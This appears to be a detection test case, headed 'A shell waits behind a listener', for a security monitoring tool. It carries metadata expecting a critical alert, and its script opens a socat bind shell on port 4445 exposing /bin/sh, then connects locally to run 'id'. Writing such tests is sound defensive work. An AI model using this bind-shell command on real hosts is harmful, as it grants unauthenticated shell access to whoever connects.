# id: N03
# title: A shell waits behind a listener
# expect: alert
# severity: critical
# kinds: process, network
# attck: T1059.004
# image: tools
# launch: app

timeout 8 socat TCP-LISTEN:4445,reuseaddr EXEC:/bin/sh,nofork &
sleep 1
echo id | timeout 3 socat - TCP:127.0.0.1:4445
wait
exit 0
